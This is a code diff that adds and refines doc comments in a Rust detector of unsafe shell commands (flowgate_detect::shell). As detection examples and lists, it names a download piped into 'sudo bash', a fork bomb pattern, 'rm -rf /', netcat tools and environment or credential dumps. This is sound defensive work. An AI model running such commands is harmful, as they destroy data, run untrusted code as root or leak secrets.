@@ -2,7 +2,7 @@
 //!
 //! Commands are parsed with their quotes, pipes and substitutions, so `echo "rm -rf /"` is text and `'rm' -rf /` is a
 //! command. Not detected: a command assembled from variables, a here-document that a shell runs, and code in another
-//! language.
+//! language. Policies call it by the function `semgrep`, and [`python`](super::python) calls it for notebooks.
 
 mod syntax;
 
@@ -45,7 +45,7 @@ pub struct UnsafeCommand {
 /// Substitutions and `bash -c` are followed to this depth.
 const MAX_DEPTH: usize = 6;
 
-/// Returns the unsafe commands of a script, in order.
+/// Returns the unsafe commands of a script, in order, without duplicates.
 ///
 /// ```
 /// let issues = flowgate_detect::shell::find("cd /tmp && curl https://x.example/i | sudo bash");
@@ -57,6 +57,7 @@ pub fn find(text: &str) -> Vec<UnsafeCommand> {
     // The fork bomb defines a function named `:`, which the parser does not read as a command.
     let squeezed: String = text.chars().filter(|c| !c.is_whitespace()).collect();
     if squeezed.contains(":(){:|:&};:") {
+        // An estimate: the white space is lost, and with it the exact position.
         let start = text.find(':').unwrap_or(0);
         finder.issues.push(UnsafeCommand {
             kind: "FORK_BOMB",
@@ -76,11 +77,13 @@ pub fn find(text: &str) -> Vec<UnsafeCommand> {
 enum ScriptLocation {
     /// From this byte on.
     From(usize),
-    /// Within these bytes, with other quotes.
+    /// Somewhere within these bytes: the quotes around it were removed, so positions in it do not correspond to the
+    /// text.
     Within(Range<usize>),
 }
 
 impl ScriptLocation {
+    /// Returns the bytes of the whole text that a range of the script is at, or is within.
     fn locate(&self, range: Range<usize>) -> Range<usize> {
         match self {
             Self::From(offset) => range.start + offset..range.end + offset,
@@ -89,17 +92,18 @@ impl ScriptLocation {
     }
 }
 
+/// Collects the unsafe commands of a script.
 #[derive(Default)]
 struct CommandScanner {
     issues: Vec<UnsafeCommand>,
-    /// Files that were downloaded.
+    /// The names of the files into which earlier commands downloaded.
     fetched: BTreeSet<String>,
 }
 
 impl CommandScanner {
-    /// Reports the unsafe commands of a script: what each command does alone, what commands of a pipeline do together,
-    /// and the scripts inside of it (substitutions, and arguments that a shell runs). `place` maps spans of `text` to
-    /// the original text, and `depth` counts the scripts that enclose this one.
+    /// Reports the unsafe commands of a script: commands that are unsafe alone, and combinations in a pipeline, such as
+    /// a download that a shell executes. Scans nested scripts recursively (substitutions, and arguments that a shell
+    /// executes). `place` maps spans of `text` to the whole text, and `depth` counts the enclosing scripts.
     fn scan_script(&mut self, text: &str, place: &ScriptLocation, depth: usize) {
         for pipeline in syntax::read(text) {
             if self.issues.len() > 2 * MAX_FINDINGS {
@@ -178,6 +182,7 @@ impl CommandScanner {
     }
 }
 
+/// Returns the bytes from the first to the last command of a pipeline.
 fn pipeline_span(pipeline: &[ShellCommand]) -> Range<usize> {
     let first = pipeline.first().map_or(0, |command| command.span().start);
     first..pipeline.last().map_or(first, |command| command.span().end)
@@ -204,8 +209,9 @@ const READERS: &[&str] = &["cat", "base64", "head", "tail", "less", "more", "xxd
 const NETCATS: &[&str] = &["nc", "ncat", "netcat"];
 
 impl<'c> EffectiveCommand<'c> {
-    /// Finds the command that runs: skips assignments (`A=1 rm`), keywords (`then rm`) and wrappers with their options
-    /// (`sudo -u x rm`).
+    /// Finds the program that a command executes: skips assignments (`A=1 rm`), keywords (`then rm`) and wrappers
+    /// with their options (`sudo -u x rm`). `elevated` is set if `sudo` or `doas` was skipped. A command without a
+    /// program has an empty name.
     fn new(command: &'c ShellCommand) -> Self {
         let mut words = command.words.as_slice();
         let mut elevated = false;
@@ -224,6 +230,7 @@ impl<'c> EffectiveCommand<'c> {
                 "timeout" => Some("ks"),
                 "nice" | "ionice" => Some("nc"),
                 "nohup" | "exec" | "command" | "builtin" | "stdbuf" | "setsid" | "busybox" => Some(""),
+                // Without a command, `env` prints the variables and is the program itself.
                 "env" if rest.iter().any(|word| !word.text.contains('=') && !word.text.starts_with('-')) => {
                     Some("uC")
                 }
@@ -295,10 +302,12 @@ impl<'c> EffectiveCommand<'c> {
         after.map(|(_, value)| value).or_else(joined).map(str::to_owned)
     }
 
+    /// Returns whether it downloads.
     fn fetches(&self) -> bool {
         self.is_one_of(FETCHERS)
     }
 
+    /// Returns whether the command decodes or transforms its input, which can hide a script.
     fn decodes(&self) -> bool {
         match self.name {
             "base64" | "base32" => self.has_option('d', "--decode") || self.has_argument("-D"),
@@ -324,23 +333,28 @@ impl<'c> EffectiveCommand<'c> {
             || self.fetches() && self.texts().any(sends)
     }
 
+    /// Returns whether an argument or the input is a file with keys or passwords.
     fn reads_sensitive(&self) -> bool {
         self.texts().any(is_sensitive_path)
             || self.command.redirects.iter().any(|(op, word)| *op == "<" && is_sensitive_path(&word.text))
     }
 
+    /// Returns whether it prints the environment variables, which often contain secrets.
     fn dumps_environment(&self) -> bool {
         self.is_one_of(&["env", "printenv"]) && self.arguments.is_empty()
             || self.is_one_of(&["export", "declare"]) && self.has_option('p', "-p")
             || self.texts().any(|text| text.starts_with("/proc/") && text.ends_with("/environ"))
     }
 
-    /// Returns a script that is given as an argument.
+    /// Returns the script that `eval` or `bash -c` receives as an argument, with the bytes of the text that contain
+    /// it. `None` if the command runs no such script, or if the script of `-c` contains a variable, so that its text
+    /// is unknown.
     fn inner_script(&self) -> Option<(String, Range<usize>)> {
         if self.name == "eval" {
-            let all: Vec<_> = self.texts().collect();
-            return Some((all.join(" "), self.command.span()));
+            let arguments: Vec<_> = self.texts().collect();
+            return Some((arguments.join(" "), self.command.span()));
         }
+        // `-c` may be combined with other options, as in `-lc`.
         let at = self.texts().position(|text| text.starts_with('-') && text.ends_with('c'))?;
         let word =
             self.arguments.get(at + 1).filter(|_| self.is_one_of(SHELLS) || self.is_one_of(&["su"]))?;
@@ -348,7 +362,7 @@ impl<'c> EffectiveCommand<'c> {
         (!word.dynamic).then(|| (word.text.clone(), word.span.clone()))
     }
 
-    /// Reports the effects that the command has by itself, without the others of its pipeline.
+    /// Reports the unsafe effects of the command alone, regardless of the other commands of its pipeline.
     fn report_effects(&self, report: &mut dyn FnMut(&'static str, IssueSeverity)) {
         use IssueSeverity::{Error, Warning};
         let any = |test: fn(&str) -> bool| self.texts().any(test);
@@ -507,6 +521,7 @@ impl<'c> EffectiveCommand<'c> {
     }
 }
 
+/// Returns the name of a program without its directory.
 fn program_name(word: &str) -> &str {
     word.rsplit('/').next().filter(|name| !name.is_empty()).unwrap_or(word)
 }
